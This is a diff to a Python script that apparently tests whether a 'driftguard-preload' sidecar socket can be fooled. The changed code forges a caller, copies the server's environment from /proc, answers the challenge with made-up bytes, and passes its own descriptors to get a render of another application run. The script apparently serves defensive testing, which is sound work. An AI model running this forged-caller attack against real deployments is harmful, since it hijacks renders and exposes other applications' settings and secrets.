@@ -14,6 +14,9 @@ import socket
 import sys
 
 cache, log = sys.argv[1], sys.argv[2]
+if os.path.exists(os.path.join(log, "attack-started")):
+    sys.exit(0)  # a render this code got served runs the same chart: it attacks once
+open(os.path.join(log, "attack-started"), "w").close()
 sock_path = os.path.join(cache, "preload.sock")
 outcome = {}
 
@@ -41,29 +44,38 @@ def server_pid():
 
 
 def request_a_render():
-    """Connect as a caller, answer the challenge without the key, send a request with descriptors."""
+    """Connect as a caller and ask for a render of another Application, with descriptors of ours.
+
+    The sidecar's settings are copied from the server's environ when /proc gives it (a child
+    serves only a caller whose settings are the server's); the challenge, when there is one, is
+    answered with made-up bytes. A READY is answered with GO: the render runs, into our pipes.
+    """
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-    s.settimeout(5)
+    s.settimeout(30)
     s.connect(sock_path)
     hello = s.recv(33)
-    s.sendall(os.urandom(64))  # a nonce and a proof made up
-    env = b"\0".join([b"driftguard-preload 2", b"18", b"%d" % os.getpgrp(), b"ARGOCD_APP_NAME=victim"])
-    body = len(env).to_bytes(4, "big") + env
-    fds = [0, 1, 2, os.open(".", os.O_RDONLY)]
+    settings = []
+    with contextlib.suppress(OSError):
+        settings = [e for e in read(f"/proc/{server}/environ").split(b"\0") if e]
+    if len(hello) > 1:
+        s.sendall(os.urandom(64))  # a nonce and a proof made up
+    magic = b"driftguard-preload 2" if len(hello) > 1 else b"driftguard-preload 1"
+    fields = [magic, b"18", b"%d" % os.getpgrp(), *settings, b"ARGOCD_APP_NAME=victim"]
+    body = b"\0".join(fields)
+    _kept_open, out_w = os.pipe()  # the render writes here (a small chart: under the pipe buffer)
+    fds = [0, out_w, out_w, os.open(".", os.O_RDONLY)]
     rights = b"".join(fd.to_bytes(4, sys.byteorder) for fd in fds)
     with contextlib.suppress(OSError):  # the child may have hung up already
-        s.sendmsg([body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
+        s.sendmsg([len(body).to_bytes(4, "big") + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
     learned = b""
-    try:
-        while True:
-            chunk = s.recv(4096)
-            if not chunk:
-                break
-            learned += chunk
-    except OSError:
-        pass
-    # a server proof (32 bytes) or READY would mean the forged caller got somewhere
-    return "done" if learned else f"refused: hello {len(hello)} bytes, then nothing"
+    with contextlib.suppress(OSError):
+        learned = s.recv(64)
+    if learned[-1:] == b"R":  # READY: the forged caller is served
+        s.sendall(b"G")
+        code = s.recv(1)
+        return f"done: served, exit {code[0] if code else '?'}"
+    # a server proof (32 bytes) or anything else would mean the forged caller got somewhere
+    return "done: " + learned.hex() if learned else f"refused: hello {len(hello)} bytes, then nothing"
 
 
 def replace_socket():
